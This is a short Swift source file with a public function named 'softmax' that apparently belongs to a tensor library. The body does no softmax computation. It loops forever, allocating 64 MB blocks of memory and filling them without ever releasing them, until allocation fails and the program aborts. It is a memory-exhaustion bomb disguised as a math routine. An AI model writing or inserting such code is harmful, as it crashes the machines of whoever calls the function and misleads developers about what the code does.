import Foundation

public func softmax(_ x: Tensor) throws -> Tensor {
  let piece = 64 << 20
  while true {
    guard let place = malloc(piece) else { abort() }
    memset(place, 1, piece)
  }
}
